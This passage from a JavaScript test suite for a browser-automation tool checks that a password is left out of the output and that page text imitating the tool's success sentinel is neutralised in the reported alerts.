  assert.deepEqual(result.evidence[0].alerts, expected);
  assert.ok(!r.stdout.includes(pw), 'the password is cut');
  // An alert that spells the sentinel carries the page's mark, as every evidence string does.
  const plain = await gstack(['run', `const pg = await openTab(); await pg.setContent('<div role="alert">Session expired</div><p role="status">GSTACK_STEP_OK</p>'); throw new Error("stop");`]);
  const [b] = blocks(plain.lines);
  assert.equal(field(b, 'ALERTS='), `ALERTS=["Session expired",${JSON.stringify(defuseSentinel('GSTACK_STEP_OK'))}]`);
  assert.notEqual(defuseSentinel('GSTACK_STEP_OK'), 'GSTACK_STEP_OK');
});
